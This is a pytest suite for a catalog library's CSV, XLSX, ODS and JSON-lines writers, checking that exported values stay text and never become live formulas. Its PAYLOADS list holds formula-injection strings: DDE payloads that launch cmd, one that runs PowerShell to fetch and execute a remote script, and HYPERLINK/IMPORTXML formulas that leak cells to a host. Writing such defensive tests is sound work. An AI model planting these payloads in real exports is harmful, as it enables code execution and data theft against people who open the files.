"""Files written as streams: what comes out is what went in, and no cell is a formula."""

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
import orjson
import pytest
import python_calamine

from catalog import writers
from catalog.writers import Unwritable
from catalog.writers.table import SHEET_ROWS

HEADER = ["reference", "note", "price"]
# What spreadsheet programs are known to run, or to run after some detour.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?leak="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.com?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://example.com")',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '="a"&"b"',
    "==1",
    "=-1",
    "=+1",
    "=@A1",
    "+-1",
    "--1",
    "-(1)",
    "-A1",
    "+A1",
    "@A1",
    "=",
    "+",
    "-",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\ttext",
    "\rtext",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\x0b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    '"=1+1"',
    '"=1+1',
    "`=1+1`",
    ";=1+1",
    ",=1+1",
    "|=1+1",
    "a\n=1+1",
    "a;=1+1",
    'a",=1+1,"b',
    "{=1+1}",
    "[clear]=1+1",
    "=1+1 ",
    "\ufeff=1+1",
    "%0A-1+1",
]
LIVE = tuple("=+-@\t\r\n\0")


def cells(text: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def rows_with(*notes: str) -> list[list[writers.Cell]]:
    return [[f"R-{number}", note, -5] for number, note in enumerate(notes)]


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_separated_payloads_are_not_live(delimiter):
    written = cells(b"".join(writers.csv.write(HEADER, rows_with(*PAYLOADS), delimiter)), delimiter)

    notes = [row[1] for row in written[1:]]
    assert len(PAYLOADS) >= 60
    assert [note for note in notes if note.startswith(LIVE) or note.lstrip().startswith(LIVE)] == []
    assert [
        note.removeprefix("'") if payload[0] != "'" else note
        for note, payload in zip(notes, PAYLOADS, strict=True)
    ] == PAYLOADS


@pytest.mark.parametrize("writer", [writers.xlsx, writers.ods])
def test_workbook_payloads_are_texts(writer):
    payloads = [payload for payload in PAYLOADS if "\x0b" not in payload and "\t" not in payload]
    content = b"".join(writer.write([("Rows", HEADER, rows_with(*payloads))]))

    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(content))
    assert [row[1] for row in book.get_sheet_by_index(0).to_python()[1:]] == payloads
    part = "xl/worksheets/sheet1.xml" if writer is writers.xlsx else "content.xml"
    text = zipfile.ZipFile(io.BytesIO(content)).read(part).decode()
    assert "<f" not in text.replace("<fo", "")
    assert "table:formula" not in text


def test_xlsx_holds_no_formula_for_openpyxl():
    content = b"".join(writers.xlsx.write([("Rows", HEADER, rows_with(*PAYLOADS))]))

    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]

    assert {cell.data_type for row in sheet for cell in row} == {"s", "n"}
    assert [cell.value for cell in sheet["C"]] == ["price", *[-5] * len(PAYLOADS)]


@pytest.mark.parametrize(
    ("number", "written"),
    [(-5, "-5"), (Decimal("-1250.50"), "-1250.50"), (1e-7, "0.0000001"), (10**20, "1" + 20 * "0"), (None, ""), ("-5", "-5"), ("-1,5", "-1,5")],
)  # fmt: skip
def test_numbers_stay_numbers(number, written):
    assert cells(b"".join(writers.csv.write(["n"], [[number]])))[1:] == ([[written]] if written else [[""]])


def test_csv_begins_with_its_header_before_any_row_is_read():
    unread = (pytest.fail("a row was read") for _ in range(1))

    assert next(writers.csv.write(HEADER, unread)) == b"\xef\xbb\xbfreference,note,price\r\n"


def test_jsonl_holds_values_as_they_are():
    content = b"".join(writers.jsonl.write(["a", "b"], [["=1", Decimal("1.50")], [None, [1, {"x": "y"}]]]))

    assert [orjson.loads(line) for line in content.splitlines()] == [
        {"a": "=1", "b": "1.50"}, {"a": None, "b": [1, {"x": "y"}]},
    ]  # fmt: skip


@pytest.mark.parametrize("writer", [writers.xlsx, writers.ods])
def test_workbook_keeps_sheets_and_texts(writer):
    texts = ["  blanks  ", "a\nb", "a\r\nb", "<&>\"'", "emoji \U0001f697", "x" * 30_000, "a  b", "\n"]
    sheets = [("One & 'two' <", HEADER, rows_with(*texts)), ("Empty", HEADER, [])]

    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(b"".join(writer.write(sheets))))

    assert book.sheet_names == ["One & 'two' <", "Empty"]
    assert [row[1] for row in book.get_sheet_by_index(0).to_python()[1:]] == texts
    assert book.get_sheet_by_index(1).to_python() == [HEADER]


def test_xlsx_writes_control_characters_as_excel_does():
    content = b"".join(writers.xlsx.write([("Rows", HEADER, rows_with("\x01", "_x0001_", "\ttab"))]))

    sheet = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0)
    assert [row[1] for row in sheet.to_python()[1:]] == ["\x01", "_x0001_", "\ttab"]


@pytest.mark.parametrize("writer", [writers.xlsx, writers.ods])
def test_workbook_of_the_same_rows_is_the_same_file(writer):
    first, second = (b"".join(writer.write([("Rows", HEADER, rows_with("a"))])) for _ in range(2))

    assert first == second


def test_ods_begins_with_its_media_type_uncompressed():
    content = b"".join(writers.ods.write([("Rows", HEADER, rows_with("a"))]))

    assert content[30:84] == b"mimetypeapplication/vnd.oasis.opendocument.spreadsheet"
    assert zipfile.ZipFile(io.BytesIO(content)).testzip() is None


def test_xlsx_header_is_frozen():
    content = b"".join(writers.xlsx.write([("Rows", HEADER, rows_with("a"))]))

    assert openpyxl.load_workbook(io.BytesIO(content)).worksheets[0].freeze_panes == "A2"


@pytest.mark.parametrize(
    ("writer", "rows", "sentence"),
    [
        pytest.param(writers.xlsx, [["R-0", "x" * 32_768]], "Line 2, column note: the text has 32,768 characters, and a cell of Excel holds 32,767; use CSV, ODS or JSON lines.", id="long text"),
        pytest.param(writers.xlsx, [["R-0", "\U0001f697" * 16_384]], "Line 2, column note: the text has 16,384 characters, and a cell of Excel holds 32,767; use CSV, ODS or JSON lines.", id="long text of wide characters"),
        pytest.param(writers.ods, [["R-0", "a\x01"]], "Line 2, column note holds the control character U+0001, which ODS cannot; use CSV, XLSX or JSON lines.", id="control character"),
        pytest.param(writers.ods, [["R-0", "\ud800"]], "Half a surrogate pair is no text, and UTF-8 cannot hold it.", id="lone surrogate"),
    ],
)  # fmt: skip
def test_workbook_refuses_what_it_cannot_hold(writer, rows, sentence):
    with pytest.raises(Unwritable) as refused:
        b"".join(writer.write([("Rows", HEADER, rows)]))

    assert str(refused.value) == sentence


@pytest.mark.parametrize("writer", [writers.xlsx, writers.ods])
def test_workbook_refuses_rows_beyond_the_end_of_a_sheet(writer):
    with pytest.raises(Unwritable, match=r"Rows has more than 1,048,575 rows"):
        for _ in writer.write([("Rows", ["a"], ([] for _ in range(SHEET_ROWS)))]):
            pass


@pytest.mark.parametrize("names", [["A", "a"], [""], ["x" * 32], ["a/b"], ["'a"]])
def test_workbook_refuses_names_that_no_sheet_can_have(names):
    with pytest.raises(Unwritable):
        writers.xlsx.write([(name, HEADER, []) for name in names])


def test_csv_refuses_half_a_surrogate_pair():
    with pytest.raises(Unwritable, match="Line 2"):
        b"".join(writers.csv.write(HEADER, rows_with("\ud800")))


def test_columns_beyond_z_have_two_letters():
    content = b"".join(writers.xlsx.write([("Rows", [f"c{n}" for n in range(705)], [list(range(705))])]))

    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert (sheet["AA2"].value, sheet["AAA2"].value, sheet.max_column) == (26, 702, 705)
